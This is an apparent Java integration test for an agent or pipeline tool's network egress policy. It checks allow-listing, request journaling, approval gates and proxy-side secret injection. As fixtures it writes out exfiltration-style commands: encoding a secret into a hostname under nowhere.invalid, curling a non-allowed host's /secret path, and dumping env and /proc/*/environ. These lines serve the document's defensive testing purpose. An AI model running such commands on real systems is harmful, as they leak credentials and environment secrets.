package dev.builderos.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.MissingNode;
import com.sun.net.httpserver.HttpServer;
import dev.builderos.contracts.journal.FactRecord;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** Commands reach the hosts that the policy names, and no other; the hosts themselves tell what came. */
@ExtendWith(SharedInstallation.class)
class EgressIT extends InProject {
    private final List<String> came = new CopyOnWriteArrayList<>();
    private final List<String> credentials = new CopyOnWriteArrayList<>();
    private HttpServer allowed;
    private HttpServer other;

    EgressIT(Installation builderos) {
        super(builderos, "- { id: none, action: noop }\n");
    }

    @BeforeEach
    void serve() {
        allowed = server("127.0.0.2");
        other = server("127.0.0.3");
        grant("network: { allow: [\"127.0.0.2:%d\", \"nowhere.invalid\"] }".formatted(port(allowed)));
    }

    @AfterEach
    void stop() {
        allowed.stop(0);
        other.stop(0);
    }

    private HttpServer server(String address) {
        try {
            HttpServer server = HttpServer.create(new InetSocketAddress(address, 0), 0);
            server.createContext("/", exchange -> {
                came.add(address + " " + exchange.getRequestMethod() + " " + exchange.getRequestURI());
                credentials.add(String.valueOf(exchange.getRequestHeaders().getFirst("Authorization")));
                byte[] body = ("hello from " + address + "\n").getBytes(StandardCharsets.UTF_8);
                exchange.sendResponseHeaders(200, body.length);
                exchange.getResponseBody().write(body);
                exchange.close();
            });
            server.start();
            return server;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static int port(HttpServer server) {
        return server.getAddress().getPort();
    }

    private void grant(String network) {
        project.write("builderos.policy.yaml", """
                kind: builderos/policy@v1
                agents:
                  pipeline:
                    tools: [shell.exec, git.*]
                    %s
                rules:
                  - id: ask-for-uploads
                    on: net.request
                    when: effect.method == "PUT"
                    ask: { from: [Owner] }
                """.formatted(network));
    }

    private void pipeline(String steps) {
        project.pipeline(steps);
        project.commit("steps");
    }

    private void fetching() {
        pipeline("""
                - id: fetch
                  cache: true
                  run: |
                    curl -sS http://127.0.0.2:%d/data?q=1 > data.txt
                    curl -sS http://127.0.0.3:%d/secret >> data.txt
                    date +%%N >> data.txt
                - { id: use, run: "cat data.txt" }
                """.formatted(port(allowed), port(other)));
    }

    @Test
    void aHostWhoseNameHoldsASecretIsNeitherAskedAboutNorReached() {
        grant("network: { allow: [\"*.nowhere.invalid\"] }");
        project.write(
                "tell.sh", "host=$(printf %s%s canary- of-the-server)\ncurl -sS http://$host.nowhere.invalid/x\n");
        pipeline("- { id: tell, run: \"sh tell.sh\" }\n");

        succeed("run", "test");

        assertThat(run("logs", "latest").out()).contains("the name of the host holds the value of a secret");
        assertThat(journal().of("ToolCalled")).as("the command alone").hasSize(1);
        assertThat(builderos
                        .api()
                        .get("/v1/runs/" + latest() + "/facts?limit=1000&after=0")
                        .toString())
                .doesNotContain(SharedInstallation.SECRET);
    }

    @Test
    void eachRequestIsDecidedAndInTheJournalAndTheReceiptHolds() {
        fetching();

        succeed("run", "test");

        assertThat(came).containsExactly("127.0.0.2 GET /data?q=1");
        Journal journal = journal();
        journal.assertSound();
        Map<String, JsonNode> calls = journal.of("ToolCalled").stream()
                .map(FactRecord::body)
                .filter(body -> body.at("/effect/tool").asText().equals("net.request"))
                .collect(Collectors.toMap(body -> body.path("callId").asText(), body -> body.at("/effect/arguments")));
        assertThat(calls.get("run-1/net-1").toString())
                .isEqualTo(
                        "{\"host\":\"127.0.0.2\",\"method\":\"GET\",\"path\":\"/data\",\"port\":%d,\"scheme\":\"http\"}"
                                .formatted(port(allowed)));
        assertThat(calls.get("run-1/net-2").path("host").asText()).isEqualTo("127.0.0.3");
        assertThat(calls).hasSize(2);
        assertThat(of(journal, "PolicyDecided", "run-1/net-1").path("verdict").asText())
                .isEqualTo("ALLOW");
        assertThat(of(journal, "PolicyDecided", "run-1/net-2").path("verdict").asText())
                .isEqualTo("DENY");
        assertThat(of(journal, "EffectCompleted", "run-1/net-1")
                        .at("/outputs/status")
                        .asText())
                .isEqualTo("200");
        assertThat(of(journal, "EffectCompleted", "run-1/net-1")
                        .at("/outputs/received")
                        .asInt())
                .isGreaterThan(22);
        assertThat(of(journal, "EffectCompleted", "run-1/net-2").isMissingNode())
                .isTrue();
        assertThat(of(journal, "ToolCalled", "run-1")
                        .at("/effect/arguments/network")
                        .asText())
                .isEqualTo("egress");
        assertThat(run("logs", "latest").out())
                .contains("hello from 127.0.0.2")
                .contains("default-deny")
                .contains("add `127.0.0.3:" + port(other) + "` to agents.pipeline.network.allow")
                .doesNotContain("hello from 127.0.0.3");
        verify(latest());
    }

    @Test
    void whatReachedTheNetworkIsNotCachedAndIsReplayedFromTheRecord() {
        fetching();
        succeed("run", "test");
        String first = latest();
        succeed("run", "test");
        assertThat(came).as("not taken from the cache").hasSize(2);
        allowed.stop(0);

        Command.Outcome replayed = run("replay", first);

        assertThat(replayed.exitCode()).as(replayed.all()).isZero();
        assertThat(replayed.out()).contains("✓ equal");
        assertThat(came).hasSize(2);
        assertThat(journal().of("ToolCalled"))
                .noneMatch(fact -> fact.body().at("/effect/tool").asText().equals("net.request"));
        verify(latest());
    }

    @Test
    void anAskInsideARunningCommandIsANo() {
        pipeline("- { id: put, run: \"curl -sS -X PUT -d x http://127.0.0.2:%d/up\" }\n".formatted(port(allowed)));

        succeed("run", "test");

        assertThat(came).isEmpty();
        assertThat(run("logs", "latest").out()).contains("nobody can be asked while a command runs");
        verify(latest());
    }

    @Test
    void aCommandBehindAGateReachesItsHostsOnceThatIsOpen() {
        pipeline("- { id: get, gates: [approval], run: \"curl -sS http://127.0.0.2:%d/gated\" }\n"
                .formatted(port(allowed)));

        succeed("run", "test", "--yes");

        assertThat(came).containsExactly("127.0.0.2 GET /gated");
        assertThat(journal()
                        .of("ApprovalRequested")
                        .getFirst()
                        .body()
                        .at("/card/blastRadius")
                        .asText())
                .contains("127.0.0.2:" + port(allowed))
                .contains("nowhere.invalid");
        verify(latest());
    }

    @Test
    void theProxyAddsASecretThatTheCommandNeverSees() {
        grant("""
                secrets: [IT_CANARY_TOKEN, IT_MISSING]
                    network:
                      allow: ["127.0.0.2:%1$d"]
                      inject:
                        - { secret: IT_CANARY_TOKEN, host: "127.0.0.2:%1$d", scheme: http, header: "Authorization: Bearer ${secret}" }
                        - { secret: IT_MISSING, host: "127.0.0.2:%1$d", scheme: http, methods: [DELETE], header: "X-Key: ${secret}" }
                """.formatted(port(allowed)));
        pipeline("""
                - id: fetch
                  run: |
                    env > seen.txt; cat /proc/*/environ >> seen.txt
                    curl -sS http://127.0.0.2:%1$d/a
                    curl -sS -X POST -d x http://127.0.0.2:%1$d/b
                    curl -sS -X DELETE http://127.0.0.2:%1$d/c
                """.formatted(port(allowed)));

        succeed("run", "test");

        assertThat(came).containsExactly("127.0.0.2 GET /a", "127.0.0.2 POST /b");
        assertThat(credentials).containsExactly("Bearer " + SharedInstallation.SECRET, "null");
        assertThat(project.git("show", branch() + ":seen.txt"))
                .contains("HTTP_PROXY=")
                .doesNotContain(SharedInstallation.SECRET);
        assertThat(run("logs", "latest").out()).contains("the secret IT_MISSING cannot be had from env");
        Journal journal = journal();
        assertThat(of(journal, "ToolCalled", "run-1/net-1")
                        .at("/effect/arguments/secret")
                        .asText())
                .isEqualTo("IT_CANARY_TOKEN");
        assertThat(of(journal, "ToolCalled", "run-1/net-2")
                        .at("/effect/arguments")
                        .has("secret"))
                .isFalse();
        assertThat(journal.facts().toString()).doesNotContain(SharedInstallation.SECRET);
        verify(latest());
    }

    @Test
    void withoutAGrantThereIsNoNetworkAtAll() {
        grant("paths: { read: [\"**\"] }");
        pipeline("""
                - id: none
                  run: |
                    test -z "$HTTP_PROXY"
                    test ! -e /run/egress
                    ! curl -sS http://127.0.0.2:%d/
                """.formatted(port(allowed)));

        succeed("run", "test");

        assertThat(came).isEmpty();
        assertThat(journal()
                        .of("ToolCalled")
                        .getFirst()
                        .body()
                        .at("/effect/arguments")
                        .has("network"))
                .isFalse();
    }

    private static JsonNode of(Journal journal, String type, String call) {
        return journal.of(type).stream()
                .map(FactRecord::body)
                .filter(body -> body.path("callId").asText().equals(call))
                .findFirst()
                .orElse(MissingNode.getInstance());
    }
}
